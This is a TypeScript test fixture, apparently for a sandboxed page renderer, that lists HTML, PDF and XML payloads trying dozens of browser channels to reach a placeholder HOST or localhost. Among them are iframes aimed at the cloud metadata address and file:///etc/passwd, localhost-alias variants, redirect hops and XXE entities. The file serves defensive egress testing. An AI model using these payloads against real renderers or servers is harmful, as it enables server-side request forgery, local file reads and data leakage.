import type { Content } from './renderer';

/** What a page does to reach a server past the renderer, at HOST, or at PORT of this machine. */
export const WAYS_OUT: [name: string, body: string, head?: string][] = [
  [
    'fetch',
    `<script>fetch('http://HOST/f'); fetch('http://HOST/k', { keepalive: true, mode: 'no-cors' })</script>`,
  ],
  [
    'XMLHttpRequest',
    `<script>const x = new XMLHttpRequest(); x.open('GET', 'http://HOST/x'); x.send()</script>`,
  ],
  [
    'a form',
    `<form id=f method=post action="http://HOST/form"><input name=a value=b></form><script>f.submit()</script>`,
  ],
  ['sendBeacon', `<script>navigator.sendBeacon('http://HOST/b', 'x')</script>`],
  ['a ping of a link', `<a id=a href="#x" ping="http://HOST/ping">x</a><script>a.click()</script>`],
  ['WebSocket', `<script>new WebSocket('ws://HOST/ws')</script>`],
  ['EventSource', `<script>new EventSource('http://HOST/events')</script>`],
  [
    'WebRTC',
    `<iframe id=i></iframe><script>
      for (const world of [globalThis, i.contentWindow]) {
        try {
          const urls = ['stun:HOST', 'turn:HOST?transport=udp', 'turn:HOST?transport=tcp'];
          const peer = new world.RTCPeerConnection({ iceServers: urls.map((url) => ({ urls: url, username: 'u', credential: 'c' })) });
          peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer));
        } catch {}
      }</script>`,
  ],
  ['WebTransport', `<script>try { new WebTransport('https://HOST/wt') } catch {}</script>`],
  ['preconnect', '', `<link rel=preconnect href="http://HOST"><link rel=dns-prefetch href="http://HOST">`],
  [
    'prefetch',
    '',
    `<link rel=prefetch href="http://HOST/p"><link rel=modulepreload href="http://HOST/m.js"><link rel=prerender href="http://HOST/r">`,
  ],
  [
    'speculation rules',
    `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["http://HOST/s"],"eagerness":"immediate"}],"prerender":[{"source":"list","urls":["/inner","http://HOST/s2"],"eagerness":"immediate"}]}</script>`,
  ],
  ['a service worker', `<script>navigator.serviceWorker?.register('/sw.js')</script>`],
  [
    'workers',
    `<script>
      const code = "fetch('http://HOST/w'); new WebSocket('ws://HOST/w'); try { importScripts('http://HOST/w.js') } catch {}";
      new Worker(URL.createObjectURL(new Blob([code])));
      try { new SharedWorker('data:text/javascript,' + encodeURIComponent(code)) } catch {}
    </script>`,
  ],
  [
    'frames',
    `<iframe src="http://HOST/frame"></iframe><iframe src="http://169.254.169.254/latest/meta-data/"></iframe><iframe srcdoc="<img src='http://HOST/srcdoc'>"></iframe>`,
  ],
  [
    'an address with a user',
    `<img src="http://user:pass@HOST/img"><iframe src="http://user:pass@HOST/frame"></iframe>`,
  ],
  ['a download', `<a id=d download href="http://HOST/file">x</a><script>d.click()</script>`],
  [
    'a window',
    `<script>open('http://HOST/window'); open('about:blank')?.document.write("<img src='http://HOST/written'>")</script>`,
  ],
  ['a redirect', `<img src="/away"><script>fetch('/away')</script>`],
  ['a refresh', '', `<meta http-equiv=refresh content="0;url=http://HOST/refresh">`],
  [
    'style sheets and media',
    `<video src="http://HOST/v"></video><object data="http://HOST/o"></object><embed src="http://HOST/e">`,
    `<style>@import "http://HOST/c.css"; @font-face { font-family: x; src: url(http://HOST/f.woff) } body { font-family: x; background: url(http://HOST/bg) }</style>`,
  ],
  [
    'files and pages of the browser',
    `<iframe src="file:///etc/passwd"></iframe><iframe src="chrome://version"></iframe><img src="file:///etc/hostname"><script>fetch('file:///etc/passwd').catch(() => {}); try { location = 'chrome://crash' } catch {}</script>`,
  ],
  ['reports', '', `<meta http-equiv=Content-Security-Policy content="img-src 'none'"><img src="/x.png">`],
];

/** Further ones, which the slow journeys try. */
export const FURTHER_WAYS_OUT: [name: string, body: string, head?: string][] = [
  [
    'what writes',
    `<script>
      const send = (path, options) => fetch(path, options).catch(() => {});
      const type = { 'content-type': 'application/json' };
      send('/graphql', { method: 'POST', headers: type, body: '{"query":"{ items { id } }"}' });
      send('http://HOST/rpc', { method: 'POST', headers: type, body: '{"jsonrpc":"2.0","id":1,"method":"list"}' });
      for (const method of ['PUT', 'PATCH', 'DELETE', 'QUERY']) send('/api/items/7', { method });
      try { send('https://HOST/up', { method: 'POST', duplex: 'half', body: new ReadableStream({ start: (all) => all.close() }) }); } catch {}
      const x = new XMLHttpRequest(); x.open('POST', '/sync', false); try { x.send('a'); } catch {}
    </script>`,
  ],
  [
    'other names of this machine',
    `<script>for (const host of ['localhost', 'a.localhost', '[::ffff:127.0.0.1]', '0.0.0.0', '127.1', '2130706433', '0x7f000001']) {
      new Image().src = 'http://' + host + ':PORT/i';
      fetch('http://' + host + ':PORT/f', { mode: 'no-cors' }).catch(() => {});
      try { new WebSocket('ws://' + host + ':PORT/ws'); } catch {}
    }</script>`,
  ],
  [
    'names that DNS knows',
    `<a href="https://a.example.org/">a</a><img src="https://b.example.org/x.png">`,
    `<meta http-equiv=x-dns-prefetch-control content=on><link rel=dns-prefetch href="//c.example.org"><link rel=preconnect href="https://d.example.org">`,
  ],
  [
    'hops over other hosts',
    `<iframe src="/hop"></iframe><script src="/hop"></script><script>fetch('/hop', { mode: 'no-cors' }); fetch('/user', { mode: 'no-cors' }).catch(() => {})</script>`,
  ],
  [
    'QUIC',
    `<script>const get = (path) => fetch('https://HOST' + path, { mode: 'no-cors' }).catch(() => {});
      get('/quic').then(() => get('/quic')).then(() => { new Image().src = 'https://HOST/after'; });</script>`,
  ],
  [
    'extensions and tools of the browser',
    `<iframe src="chrome-extension://mhjfbmdgcfjbbpaeojofohoefgiehjai/index.html"></iframe><iframe src="devtools://devtools/bundled/inspector.html"></iframe><iframe src="view-source:http://HOST/v"></iframe>
      <script src="chrome-extension://mhjfbmdgcfjbbpaeojofohoefgiehjai/x.js"></script>
      <script>try { chrome.runtime.sendMessage('mhjfbmdgcfjbbpaeojofohoefgiehjai', 1); } catch {}
        try { location = 'chrome-extension://mhjfbmdgcfjbbpaeojofohoefgiehjai/index.html'; } catch {}</script>`,
  ],
  [
    'a PDF',
    `<embed src="/order.pdf" type="application/pdf"><object data="/order.pdf" type="application/pdf"></object><iframe src="/order.pdf"></iframe>`,
  ],
  [
    'a printer',
    `<script>onbeforeprint = () => fetch('http://HOST/print'); print(); try { document.execCommand('print'); } catch {}</script>`,
    `<style media=print>@import "http://HOST/print.css"; body { background: url(http://HOST/print.png) }</style><link rel=stylesheet media=print href="http://HOST/print2.css">`,
  ],
  [
    'services of the browser',
    `<script>
      const tries = [
        () => new PaymentRequest([{ supportedMethods: 'https://HOST/pay' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment(),
        () => navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16), rpId: '127.0.0.1' } }),
        () => navigator.credentials.get({ identity: { providers: [{ configURL: 'https://HOST/fed.json', clientId: 'x' }] } }),
        () => navigator.joinAdInterestGroup({ owner: 'https://HOST', name: 'x', biddingLogicURL: 'https://HOST/bid.js', updateURL: 'https://HOST/u' }, 1000),
        () => navigator.runAdAuction({ seller: 'https://HOST', decisionLogicURL: 'https://HOST/sell.js' }),
        () => sharedStorage.createWorklet('https://HOST/shared.js'),
        () => new PresentationRequest('https://HOST/show').start(),
        () => fetch('https://HOST/token', { privateToken: { version: 1, operation: 'token-request' } }),
        () => fetch('https://HOST/topics', { browsingTopics: true }),
        () => new TCPSocket('127.0.0.1', PORT),
        () => navigator.share({ url: 'https://HOST/share' }),
        () => navigator.registerProtocolHandler('web+tea', 'https://shop.example/?%s'),
      ];
      for (const each of tries) { try { Promise.resolve(each()).catch(() => {}); } catch {} }
    </script>`,
    `<link rel="payment" href="https://HOST/pay"><link rel="amphtml" href="https://HOST/amp">`,
  ],
  [
    'the end of the page',
    `<script>
      for (const name of ['pagehide', 'unload', 'visibilitychange', 'freeze'])
        addEventListener(name, () => { fetch('http://HOST/' + name, { keepalive: true, mode: 'no-cors' }); navigator.sendBeacon('http://HOST/' + name); });
      try { fetchLater('https://HOST/later', { activateAfter: 0 }); } catch {}
    </script>`,
  ],
  [
    'manifests, bundles and dictionaries',
    `<script type=webbundle>{"source":"http://HOST/b.wbn","resources":["http://HOST/r.js"]}</script><fencedframe src="https://HOST/fenced"></fencedframe><portal src="http://HOST/portal"></portal><img attributionsrc="https://HOST/attribution" src="/x.png">`,
    `<link rel=manifest href="http://HOST/m.json"><link rel=icon href="http://HOST/i.ico"><link rel=compression-dictionary href="http://HOST/d"><link rel=search type="application/opensearchdescription+xml" href="http://HOST/s.xml"><script type=importmap>{"imports":{"a":"http://HOST/a.js"}}</script>`,
  ],
  [
    'worklets and modules',
    `<script>
      const adds = [() => CSS.paintWorklet.addModule('http://HOST/p.js'), () => new AudioContext().audioWorklet.addModule('http://HOST/a.js'), () => import('http://HOST/m.js')];
      for (const each of adds) { try { each().catch(() => {}); } catch {} }
      const inner = "import 'http://HOST/inner.js'; new Worker('http://HOST/w.js')";
      new Worker(URL.createObjectURL(new Blob([inner], { type: 'text/javascript' })), { type: 'module' });
      new Worker(URL.createObjectURL(new Blob(['new Worker(URL.createObjectURL(new Blob(["fetch(\\'http://HOST/nested\\')"])))'])));
    </script>`,
  ],
  [
    'documents of XML, and drawings',
    `<iframe src="/feed.xml"></iframe><svg><image href="http://HOST/svg.png"/><use href="http://HOST/use.svg#a"/><filter><feImage href="http://HOST/fe.png"/></filter></svg><math href="http://HOST/m"><mi>x</mi></math>`,
  ],
];

/** What these pages load from their own site and from others, by path or address. */
export const filesOnTheWay = (there: string): Record<string, Content> => ({
  '/sw.js': `fetch('http://${there}/sw')`,
  '/away': leadsTo(`http://${there}/redirected`),
  '/hop': leadsTo('https://third.example/hop'),
  'https://third.example/hop': leadsTo(`http://${there}/hop`),
  '/user': leadsTo(`http://user:pass@${there}/user`),
  '/inner': '<!DOCTYPE html>inner',
  [`https://${there}/quic`]: {
    type: 'text/plain',
    headers: [['Alt-Svc', `h3="${there}"; ma=86400; persist=1`]],
    body: 'x',
  },
  '/order.pdf': {
    type: 'application/pdf',
    body: `%PDF-1.7
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI(http://${there}/pdf)>>/AA<</WC<</S/JavaScript/JS(app.launchURL\\('http://${there}/js'\\))>>>>>>endobj
2 0 obj<</Type/Pages/Count 1/Kids[3 0 R]>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/AA<</O<</S/SubmitForm/F<</FS/URL/F(http://${there}/submit)>>>>>>>>endobj
trailer<</Root 1 0 R>>
%%EOF`,
  },
  '/feed.xml': {
    type: 'application/xml',
    body: `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="http://${there}/x.xsl"?><!DOCTYPE a SYSTEM "http://${there}/a.dtd" [<!ENTITY b SYSTEM "http://${there}/b">]><a xmlns:xi="http://www.w3.org/2001/XInclude">&b;<xi:include href="http://${there}/c"/></a>`,
  },
});

const leadsTo = (address: string): Content => ({ status: 302, headers: [['Location', address]] });
